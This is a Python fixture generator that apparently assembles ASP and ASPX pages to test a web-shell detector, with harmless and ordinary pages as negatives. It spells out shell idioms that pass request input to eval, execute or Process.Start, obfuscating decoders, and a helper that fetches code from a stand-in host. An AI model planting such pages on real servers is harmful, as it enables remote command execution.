"""Lists of idioms, put together into pages at run time: language x (source | decoding | flow | sink | disguise).

The lists were written down before the program saw them, and are kept as they were (`idioms.zip`, password `infected`;
EXSWEEP-INERT-FIXTURE: fragments, no page). In a line `name | code`, `§` is the place of what the visitor sends and `¶`
that of what runs it; every fragment is tried with the plainest other half, and a sample of all combinations.
"""

import random
import re
import zipfile
from collections.abc import Iterator
from pathlib import Path
from typing import NamedTuple

LISTS = Path(__file__).with_name("idioms.zip")
PAIRS = 120
"""Combinations of source, decoding and sink of each language."""

_SOURCE = {
    "cs": 'Request["x"]',
    "vb": 'Request("x")',
    "vbs": 'request("x")',
    "js": 'Request("x")+""',
    "jsnet": 'Request["x"]',
}
_RUNNER = {
    "cs": "System.Diagnostics.Process.Start",
    "vb": "System.Diagnostics.Process.Start",
    "vbs": "execute",
    "js": "eval",
    "jsnet": "eval",
}
_FORM = '<form runat="server"><asp:TextBox id="t" runat="server"/><asp:Button id="B" OnClick="B" runat="server"/></form>'
_HEADS = {
    "cs": (
        '<%@ Page Language="C#" %><%@ Import Namespace="System.IO" %><%@ Import Namespace="System.Linq" %>\n'
        + _FORM
    ),
    "vb": '<%@ Page Language="VB" %>\n' + _FORM,
    "vbs": "",
    "js": '<%@ Language="JScript" %>',
    "jsnet": '<%@ Page Language="Jscript" %>',
}
_HELPERS = {
    "vbs": {
        "b64": 'function b64(s)\nset d = createobject("msxml2.domdocument").createelement("a"): d.datatype = "bin.base64"\n'
        "d.text = s: b64 = bin(d.nodetypedvalue)\nend function\nfunction bin(b)\nfor i = 1 to lenb(b)\n"
        "bin = bin & chr(ascb(midb(b, i, 1)))\nnext\nend function\n",
        "hexd": 'function hexd(s)\nfor i = 1 to len(s) step 2: hexd = hexd & chr("&H" & mid(s, i, 2)): next\nend function\n',
        "xord": "function xord(s)\ndim i\nfor i = 1 to len(s)\nxord = xord & chr(asc(mid(s, i, 1)) xor 9)\nnext\nend function\n",
        "shiftd": "function shiftd(s)\nfor i = 1 to len(s): shiftd = shiftd & chr(asc(mid(s, i, 1)) - 1): next\nend function\n",
        "rx": 'function rx(s)\nset r = new regexp: r.pattern = "x": rx = r.replace(s, "")\nend function\n',
        "st": 'function st(s)\nset a = createobject("adodb.stream"): a.type = 2: a.open: a.writetext s: a.position = 0\n'
        "st = a.readtext\nend function\n",
        "fetch": 'function fetch()\nset h = createobject("msxml2.xmlhttp"): h.open "GET", "http://192.0.2.1/a", false: h.send\n'
        "fetch = h.responsetext\nend function\n",
    },
    "js": {
        "dom": 'function dom(s){var d=new ActiveXObject("Msxml2.DOMDocument").createElement("a");d.dataType="bin.base64";'
        "d.text=s;return d.nodeTypedValue}\n"
    },
}


class Idiom(NamedTuple):
    """One page."""

    name: str
    page: bytes
    file: str


def _page(language: str, code: str, *, member: bool = False) -> tuple[bytes, str]:
    helpers = "".join(
        text for name, text in _HELPERS.get(language, {}).items() if re.search(rf"\b{name}\(", code)
    )
    code = helpers + code
    if member:
        text = f'{_HEADS[language]}<script runat="server">\n{code}\n</script>'
    else:
        text = f"{_HEADS[language]}<%\n{code}\n%>"
    return text.encode(), "page.asp" if language in ("vbs", "js") else "page.aspx"


def _lines(language: str, code: str) -> str:
    """A tilde is a line end in Basic, but for one that stands in quotes as an argument."""
    if language not in ("vb", "vbs"):
        return code
    kept = re.sub(r'"[^"\n]{0,40}~[^"\n]{0,40}"(?=[,)])', lambda match: match[0].replace("~", "\0"), code)
    return kept.replace("~", "\n").replace("\0", "~")


def _tables(text: str) -> dict[str, dict[str, str]]:
    tables: dict[str, dict[str, str]] = {}
    for line in text.splitlines():
        if line.startswith("== "):
            table = tables.setdefault(line[3:], {})
        elif " | " in line:
            name, _, code = line.partition(" | ")
            table[name] = code
    return tables


def _wholes(text: str) -> Iterator[Idiom]:
    for chunk in text.split("=====")[1:]:
        head, _, body = chunk.partition("\n")
        name, file = re.fullmatch(r"\s*(.*?) (\S+|OAB.*)\s*", head).groups()  # type: ignore[union-attr]
        yield Idiom(f"whole: {name}", body.encode(), file)


def _read(number: int, name: str) -> str:
    with zipfile.ZipFile(LISTS) as packed:
        path = f"list{number}/{name}.txt"
        return packed.read(path, pwd=b"infected").decode() if path in packed.namelist() else ""


def singles(number: int) -> Iterator[Idiom]:
    """Every fragment of a list with the plainest other half, and its whole pages."""
    for language in _SOURCE:
        end = "" if language in ("vb", "vbs") else ";"
        call = f"{_RUNNER[language]} §" if language == "vbs" else f"{_RUNNER[language]}(§)"
        for section, rows in _tables(_read(number, language)).items():
            for name, code in rows.items():
                shape = {"source": call.replace("§", code), "transport": call.replace("§", code)}.get(
                    section, code
                )
                source = f"({_SOURCE[language]})" if section == "transport" else _SOURCE[language]
                whole = _lines(language, shape.replace("§", source).replace("¶", _RUNNER[language]) + end)
                yield Idiom(
                    f"{language} {section}: {name}", *_page(language, whole, member=section == "member")
                )
    yield from _wholes(_read(number, "whole"))


def pairs(number: int) -> Iterator[Idiom]:
    """A sample of source x decoding x sink, the same in every run."""
    for language in _SOURCE:
        tables = _tables(_read(number, language))
        rows = [list(tables.get(each, {}).items()) for each in ("source", "transport", "sink")]
        chance = random.Random(7)
        for _ in range(PAIRS if all(rows) else 0):
            (first, source), (second, decoding), (third, sink) = (chance.choice(each) for each in rows)
            end = "" if language in ("vb", "vbs") else ";"
            code = _lines(language, sink.replace("§", decoding.replace("§", f"({source})")) + end)
            yield Idiom(f"{language}: {first} / {second} / {third}", *_page(language, code))


def ordinary(number: int) -> Iterator[Idiom]:
    """Whole pages of sites, byte by byte as they were written."""
    with zipfile.ZipFile(LISTS) as packed:
        for name in packed.namelist():
            if name.startswith(f"list{number}/ordinary/"):
                file = name.rpartition("/")[2]
                yield Idiom(file, packed.read(name, pwd=b"infected"), file)


def harmless(number: int) -> Iterator[Idiom]:
    """What ordinary pages do that looks alike."""
    for language, rows in _tables(_read(number, "harmless")).items():
        for name, code in rows.items():
            yield Idiom(
                f"{language}: {name}", *_page(language, _lines(language, code), member=name.startswith("*"))
            )
    yield from _wholes(_read(number, "harmless_whole"))
